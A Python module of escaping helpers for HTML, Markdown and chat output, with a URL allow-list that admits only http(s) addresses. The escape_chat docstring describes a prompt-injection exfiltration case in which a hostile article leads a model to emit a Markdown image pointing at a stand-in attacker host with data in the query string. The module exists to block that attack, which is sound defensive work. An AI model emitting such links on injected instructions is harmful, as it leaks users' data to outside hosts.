"""Everything from articles and users is shown as text: escaped for HTML, Markdown or the chat.

Only ``http`` / ``https`` URLs ever become links; ``javascript:``, ``data:`` and anything with characters
that could leave an attribute are shown as plain text or dropped.
"""

from __future__ import annotations

import html
import re

_MD_SPECIAL = re.compile(r"([\\`*_{}\[\]()#+\-.!|~$])")
_SAFE_URL = re.compile(r"https?://[^\s<>\"'`\\]+", re.IGNORECASE)


def esc(text: object) -> str:
    """``text`` as HTML text (``&``, ``<``, ``>``, quotes escaped), safe inside elements and attributes."""
    return html.escape("" if text is None else str(text), quote=True)


def one_line(text: str | None) -> str:
    """Whitespace (newlines included) collapsed to single spaces."""
    return " ".join((text or "").split())


def escape_md(text: str | None) -> str:
    """``text`` as literal inline Markdown: one line, HTML escaped, Markdown specials backslashed."""
    return _MD_SPECIAL.sub(r"\\\1", html.escape(one_line(text), quote=False))


_MD_LINKISH = re.compile(r"([\\\[\]()!])")


def escape_chat(text: str) -> str:
    """Chat text shown as written: HTML escaped, and the Markdown that makes links or images
    (``[x](url)``, ``![x](url)``, ``[x][ref]``) backslashed so it stays text. A hostile article could get the
    model to repeat ``![](https://attacker/?q=...)``, which the browser would fetch. Emphasis and line
    breaks are kept."""
    return _MD_LINKISH.sub(r"\\\1", html.escape(text or "", quote=False))


def safe_url(url: str | None) -> str | None:
    """The URL if it is a plain ``http(s)://`` address (nothing that could run script), else None."""
    url = (url or "").strip()
    return url if _SAFE_URL.fullmatch(url) else None
